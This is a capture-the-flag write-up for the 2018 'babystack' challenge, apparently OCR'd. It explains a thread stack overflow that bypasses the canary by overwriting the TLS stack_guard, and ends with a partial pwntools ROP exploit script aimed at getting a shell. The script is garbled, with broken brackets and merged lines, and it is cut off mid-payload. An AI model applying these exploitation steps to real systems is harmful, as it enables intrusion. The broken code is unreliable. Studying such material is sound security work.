Star Ctf 2018 Babystack


Arch:     amd64-64-little
Stack:    Canary found
NX:       NX enabled
PIE:      No PIE (0x400000)

The challenge creates a thread and calls a function start_routine

void *__fastcall start_routine(void *a1)
  void *result; // rax@2
  __int64 v2; // rcx@4
  unsigned __int64 v3; // [sp+8h] [bp-1018h]@1
  char s; // [sp+10h] [bp-1010h]@1
  __int64 v5; // [sp+1018h] [bp-8h]@1

  v5 = *MK_FP(__FS__, 40LL);
  memset(&s, 0, 0x1000uLL);
  puts("Welcome to babystack 2018!");
  puts("How many bytes do you want to send?");
  v3 = get_int();
  if ( v3 <= 0x10000 )
    get_inp(0, &s, v3);
    puts("It's time to say goodbye.");
    result = 0LL;
    puts("You are greedy!");
    result = 0LL;
  v2 = *MK_FP(__FS__, 40LL) ^v5;
  return result;

Well there is a huge overflow in the stack . During the ctf giving a very large input makes the program segfault inside the getinp function which dereference a location on the stack and it points to the errno variable but our overflow overwrite this pointer and causes trouble , I just found the offset and gave it a pointer to BS’s which will be allways null , thus the read will terminate without any error . Next is to bypass the canary

As the function is called on a different thread , the thread will have a new stack and the canary is placed on the thread local storage structure. and this structure will be on top of the stack which gives us a opportunity to overflow in this case .

  typedef struct
    void *tcb;        /* Pointer to the TCB.  Not necessarily the
                 thread descriptor used by libpthread.  */
    dtv_t *dtv;
    void *self;       /* Pointer to the thread descriptor.  */
    int multiple_threads;
    int gscope_flag;
    uintptr_t sysinfo;
    uintptr_t stack_guard;
    uintptr_t pointer_guard;
  } tcbhead_t;the fs segment register will always point to this . As it turns out i could not view the address which fs points with gdb , the arch_prctl syscall is responsible of setting address to these registers , by viewing the the argument of this syscall we can find the address of this structure .

pwndbg> catch syscall 158
Catchpoint 1 (syscall 'arch_prctl' [158])

this will stop the execution after the syscall has called

pwndbg> reg
*RAX  0xffffffffffffffda
*RBX  0x1
*RCX  0x7ffff7dd9bb8 (init_tls+280) ◂— test   eax, eax
*RDX  0x7ffff7fc5010 ◂— 0x0
*RDI  0x1002
*RSI  0x7ffff7fc4700 ◂— 0x7ffff7fc4700
*R8   0xffffffffffffffff
 R9   0x0
*R10  0x22
*R11  0x206
*R12  0x22c3d0dcdbfa
*R13  0x10
 R14  0x0
*R15  0x7ffff7ffe170 ◂— 0x0
*RBP  0x7fffffffdbd0 —▸ 0x400040 ◂— 0x500000006
*RSP  0x7fffffffd9c0 ◂— 0x0
*RIP  0x7ffff7dd9bb8 (init_tls+280) ◂— test   eax, eax
pwndbg> x/10gx 0x7ffff7fc4700
0x7ffff7fc4700: 0x00007ffff7fc4700      0x00007ffff7fc5010
0x7ffff7fc4710: 0x00007ffff7fc4700      0x0000000000000000
0x7ffff7fc4720: 0x0000000000000000      0x0000000000000000
0x7ffff7fc4730: 0x0000000000000000      0x0000000000000000
0x7ffff7fc4740: 0x0000000000000000      0x0000000000000000

this is the address of the tls . the values are not populated yet .0x004009f2      64488b042528.  mov rax, qword fs:[0x28]    ; [0x28:8]=-1 ; '(' ; 40
0x004009fb      488945f8       mov qword [rbp - 8], rax

this is the code which copy the canary to the stack , so fs + 0x28 gives us the canary .

pwndbg> x/4gx 0x7ffff7fc4700 + 0x28
0x7ffff7fc4728: 0x4339f83af5815e00      0xe535fd48502579dc
0x7ffff7fc4738: 0x0000000000000000      0x0000000000000000

now we can calculate the offset of the canary from the read buffer and overwrite it with a known values , then we can use the usual ROP techniques to get the shell .

import hashlib,string

def p64(hex):
    from struct import pack
    return pack('<' + 'Q' * len(hex), *hex)
context.arch = 'amd64'
context.bits = 64
if True:
    context.log_level = "debug"
    io = remote ("", 10005)
    context.log_level = "debug"
    context.terminal = ['tmux', 'splitw', '-h']
    env = { 'LD_PRELOAD' : './'}
    io = process('bs',env=env )
    # gdb.attach(io,'''
    # b * 0x0400A1A
    # b * 0x00400A9C
    # ''')

def send(size,inp):
        io.recvuntil("How many bytes do you want to send?\n")
def calc():
    print leak
    l=leak.split(" == ")
    print l
    for i in string.printable:
        for j in string.printable:
            for k in string.printable:
                for m in string.printable:
                    ifhashlib.sha256(i+j+k+m+l[0]).hexdigest() == l[1]:
                        print i+j+k+m
                        io.sendlineafter("Give me xxxx:",i+j+k+m)
                    if s%10000==0:
                        print s

# send(0x10000,p64([0x602f00]) * ( 0x10000 / 8 ))
# 0x00400c03: pop rdi; ret;
# 0x00400c01: pop rsi; pop r15; ret;


payload = "A" * 0x1008 + "\x00" * 0x8
payload += p64([0x602d00,
payload = payload.ljust( 6080 , "\x00" ) +p64([0x602f00])
payload = payload.ljust(0x1800,"\x00")
send(len(payload) , payload)

libc_leak = u64(io.recvline()[:-1].ljust(0x8,"\x00"))
libc = libc_leak - 0x0006f690
magic = libc + 0xf1147"Libc Leak : " + hex(libc))

payload = p64([0x602d00,